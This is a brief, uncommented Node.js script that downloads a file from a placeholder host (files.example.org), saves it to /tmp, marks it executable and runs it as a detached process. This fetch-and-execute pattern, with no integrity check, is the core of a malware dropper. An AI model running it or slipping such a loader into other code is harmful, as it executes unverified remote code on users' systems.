import { createWriteStream } from "node:fs";
import { chmod } from "node:fs/promises";
import { Readable } from "node:stream";
import { pipeline } from "node:stream/promises";
import { spawn } from "node:child_process";

const answer = await fetch("https://files.example.org/tool");
await pipeline(Readable.fromWeb(answer.body), createWriteStream("/tmp/tool"));
await chmod("/tmp/tool", 0o755);
spawn("/tmp/tool", [], { detached: true });
